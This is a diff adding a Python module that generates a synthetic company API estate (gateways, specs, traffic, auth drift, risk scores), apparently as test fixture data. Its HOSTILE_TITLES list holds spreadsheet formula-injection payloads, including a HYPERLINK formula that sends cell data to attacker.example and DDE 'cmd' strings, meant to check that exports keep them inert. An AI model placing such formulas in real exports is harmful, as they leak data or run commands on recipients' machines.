@@ -1,0 +1,296 @@
+"""A deterministic, generated API estate of one company, and how each tool sees it.
+
+The estate is a pure function of (seed, size); what exists on a given date is a pure function of
+(estate, date), so consecutive dates differ the way real estates drift: APIs appear and retire,
+operations come and go, auth settings and risk scores change. The projections into the four tools
+overlap as they do in real companies: most endpoints are in a gateway, a spec and traffic; some only
+in traffic (shadow); some in a gateway with no audit; some public endpoints carry sensitive data.
+"""
+
+from __future__ import annotations
+
+import random
+import uuid
+from dataclasses import dataclass, field
+from datetime import date
+from functools import cached_property
+
+RESOURCES = [
+    "users",
+    "orders",
+    "payments",
+    "accounts",
+    "invoices",
+    "devices",
+    "sessions",
+    "products",
+    "carts",
+    "claims",
+    "policies",
+    "shipments",
+    "reports",
+    "documents",
+    "customers",
+    "cards",
+    "transfers",
+    "messages",
+    "tickets",
+    "subscriptions",
+]
+DOMAINS = [
+    "ledger",
+    "billing",
+    "identity",
+    "catalog",
+    "checkout",
+    "shipping",
+    "support",
+    "risk",
+    "loyalty",
+    "partners",
+    "mobile",
+    "insights",
+    "search",
+    "notify",
+    "wallet",
+    "fleet",
+]
+TEAMS = ["Payments", "Identity", "Commerce", "Logistics", "Customer Care", "Data", "Mobile", "Partners"]
+SENSITIVE = ["PII", "PCI", "PHI", "credentials", "email", "phone", "ssn", "bank_account"]
+APIGEE_HOSTS = {"prod": "api.acme.example", "test": "api-test.acme.example"}
+KONG_HOST = "edge.acme.example"
+AUTH_KINDS = ["apikey", "oauth2", "jwt", "basic"]
+
+# Vendor strings that must stay data: spreadsheet formula triggers, non-ASCII, over-long text.
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C notepad'!'A1'",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Zahlungsübersicht — 支付接口 — Платежи ✓",
+]
+LONG_TEXT = "This API description is far too long for one spreadsheet cell. " * 700  # > 32,767 chars
+
+CHURN_PERIOD = 50  # days; a churning API lives `life` days of every period
+
+
+def _uuid(rng: random.Random) -> str:
+    return str(uuid.UUID(int=rng.getrandbits(128), version=4))
+
+
+@dataclass(frozen=True)
+class Operation:
+    method: str
+    template: str  # relative to the API's base path, parameters spelled {name}
+    params: tuple[str, ...]
+    in_spec: bool
+    in_gateway: bool
+    in_traffic: bool
+    public: bool  # no authentication even when the API has some
+    sensitive: tuple[str, ...]
+    churn_phase: int | None  # None: always there
+    concrete_in_traffic: bool  # Cequence shows real ids instead of a template
+
+    def alive(self, day: int) -> bool:
+        return self.churn_phase is None or (day - self.churn_phase) % 30 < 24
+
+
+@dataclass(frozen=True)
+class Api:
+    index: int
+    id: str
+    name: str
+    title: str
+    description: str
+    team: str
+    version: int
+    host: str
+    base_path: str
+    gateway: str | None  # "apigee" | "kong" | None
+    deployed: bool
+    environments: tuple[str, ...]
+    in_spec: bool
+    audited: bool
+    grade: int
+    audit_age_days: int
+    in_traffic: bool
+    auth_kind: str | None
+    auth_flip_phase: int | None
+    operations: tuple[Operation, ...]
+    churn: tuple[int, int] | None  # (phase, life) within CHURN_PERIOD
+    kong_ids: tuple[str, str]  # service id, plugin id
+    collection_id: str
+
+    def alive(self, day: int) -> bool:
+        if self.churn is None:
+            return True
+        phase, life = self.churn
+        return (day - phase) % CHURN_PERIOD < life
+
+    def auth_on(self, day: int) -> str | None:
+        """The API's auth kind on a date: a few APIs lose or gain authentication over time."""
+        if self.auth_flip_phase is not None and (day - self.auth_flip_phase) % 40 < 20:
+            return None if self.auth_kind else "apikey"
+        return self.auth_kind
+
+    def risk_score(self, day: int, op: Operation) -> float:
+        rng = random.Random(f"{self.id}:{op.method}:{op.template}:{day // 7}")
+        base = 2.0 + 3.0 * bool(op.sensitive) + 3.0 * (self.auth_on(day) is None or op.public)
+        return round(min(10.0, base + rng.random() * 2), 1)
+
+
+@dataclass
+class Estate:
+    size: int = 200
+    seed: int = 7
+    apis: list[Api] = field(init=False)
+
+    def __post_init__(self) -> None:
+        if not 1 <= self.size <= 100_000:
+            raise ValueError("size is from 1 to 100,000 APIs")
+        self.apis = [self._make_api(i) for i in range(self.size)]
+
+    def _make_api(self, i: int) -> Api:
+        rng = random.Random(f"{self.seed}:{i}")
+        domain = DOMAINS[i % len(DOMAINS)]
+        resource = rng.choice(RESOURCES)
+        name = f"{domain}-{resource}-{i}"
+        version = rng.randint(1, 3)
+        draw = rng.random()
+        gateway = "apigee" if draw < 0.55 else "kong" if draw < 0.80 else None
+        in_spec = rng.random() < (0.75 if gateway else 0.3)
+        in_traffic = True if not gateway and not in_spec else rng.random() < 0.9
+        auth_kind = rng.choice(AUTH_KINDS) if rng.random() < 0.85 else None
+        if gateway == "apigee":
+            host = APIGEE_HOSTS["prod"]
+        elif gateway == "kong":
+            host = KONG_HOST
+        else:
+            host = f"{domain}-legacy.acme.example"
+        api_sensitive = tuple(rng.sample(SENSITIVE, rng.randint(1, 3))) if rng.random() < 0.45 else ()
+        operations = []
+        templates = [
+            ("GET", f"/{resource}", ()),
+            ("POST", f"/{resource}", ()),
+            ("GET", f"/{resource}/{{{resource[:-1]}Id}}", (f"{resource[:-1]}Id",)),
+            ("PUT", f"/{resource}/{{{resource[:-1]}Id}}", (f"{resource[:-1]}Id",)),
+            ("DELETE", f"/{resource}/{{{resource[:-1]}Id}}", (f"{resource[:-1]}Id",)),
+            ("GET", f"/{resource}/{{{resource[:-1]}Id}}/history", (f"{resource[:-1]}Id",)),
+            ("GET", "/health", ()),
+            ("PATCH", f"/{resource}/{{{resource[:-1]}Id}}/status", (f"{resource[:-1]}Id",)),
+        ]
+        count = rng.randint(2, len(templates))
+        chosen = templates[:count]
+        for method, template, params in chosen:
+            documented = gateway is not None or in_spec
+            operations.append(
+                Operation(
+                    method=method,
+                    template=template,
+                    params=params,
+                    in_spec=in_spec,
+                    in_gateway=gateway is not None,
+                    in_traffic=in_traffic and rng.random() < 0.85,
+                    public=template == "/health" or (auth_kind is not None and rng.random() < 0.05),
+                    sensitive=api_sensitive if template != "/health" and rng.random() < 0.7 else (),
+                    churn_phase=rng.randrange(30) if documented and rng.random() < 0.1 else None,
+                    concrete_in_traffic=bool(params) and rng.random() < 0.5,
+                )
+            )
+        if (gateway or in_spec) and in_traffic and rng.random() < 0.12:
+            # An undocumented operation: only traffic knows it.
+            operations.append(
+                Operation(
+                    method="GET",
+                    template=f"/{resource}/export",
+                    params=(),
+                    in_spec=False,
+                    in_gateway=False,
+                    in_traffic=True,
+                    public=rng.random() < 0.5,
+                    sensitive=api_sensitive,
+                    churn_phase=None,
+                    concrete_in_traffic=False,
+                )
+            )
+        if not any(op.in_traffic for op in operations) and not gateway and not in_spec:
+            operations[0] = Operation(**{**operations[0].__dict__, "in_traffic": True})
+        title = HOSTILE_TITLES[i - 1] if 1 <= i <= len(HOSTILE_TITLES) else f"{domain.title()} {resource} API"
+        return Api(
+            index=i,
+            id=_uuid(rng),
+            name=name,
+            title=title,
+            description=LONG_TEXT
+            if i == 6
+            else f"{TEAMS[i % len(TEAMS)]} team's {resource} service, v{version}.",
+            team=TEAMS[i % len(TEAMS)],
+            version=version,
+            host=host,
+            base_path=f"/{domain}/{resource}/v{version}" if gateway != "kong" else f"/{name}/v{version}",
+            gateway=gateway,
+            deployed=gateway != "apigee" or rng.random() < 0.93,
+            environments=("prod", "test") if rng.random() < 0.4 else ("prod",),
+            in_spec=in_spec,
+            audited=in_spec and rng.random() < 0.85,
+            grade=rng.randint(15, 100),
+            audit_age_days=rng.randint(0, 60) if rng.random() < 0.85 else rng.randint(100, 400),
+            in_traffic=in_traffic,
+            auth_kind=auth_kind,
+            auth_flip_phase=rng.randrange(40) if rng.random() < 0.05 else None,
+            operations=tuple(operations),
+            churn=(rng.randrange(CHURN_PERIOD), rng.randint(30, 45))
+            if i >= 8 and rng.random() < 0.3
+            else None,
+            kong_ids=(_uuid(rng), _uuid(rng)),
+            collection_id=str(
+                uuid.UUID(
+                    int=random.Random(f"{self.seed}:team:{TEAMS[i % len(TEAMS)]}").getrandbits(128), version=4
+                )
+            ),
+        )
+
+    @staticmethod
+    def day_number(day: date | None) -> int:
+        return (day or date.today()).toordinal()
+
+    def on(self, day: date | None) -> EstateDay:
+        return EstateDay(self, self.day_number(day))
+
+
+@dataclass
+class EstateDay:
+    """The estate on one date: the APIs and operations alive then."""
+
+    estate: Estate
+    day: int
+
+    @cached_property
+    def apis(self) -> list[tuple[Api, tuple[Operation, ...]]]:
+        alive = []
+        for api in self.estate.apis:
+            if api.alive(self.day):
+                ops = tuple(op for op in api.operations if op.alive(self.day))
+                if ops:
+                    alive.append((api, ops))
+        return alive
+
+    def in_gateway(self, gateway: str) -> list[tuple[Api, tuple[Operation, ...]]]:
+        return [
+            (api, tuple(o for o in ops if o.in_gateway))
+            for api, ops in self.apis
+            if api.gateway == gateway and any(o.in_gateway for o in ops)
+        ]
+
+    def in_spec(self) -> list[tuple[Api, tuple[Operation, ...]]]:
+        return [
+            (api, tuple(o for o in ops if o.in_spec))
+            for api, ops in self.apis
+            if api.in_spec and any(o.in_spec for o in ops)
+        ]
+
+    def in_traffic(self) -> list[tuple[Api, Operation]]:
+        return [(api, op) for api, ops in self.apis for op in ops if op.in_traffic]
+
+    def teams(self) -> list[str]:
+        return sorted({api.team for api, _ in self.in_spec()})
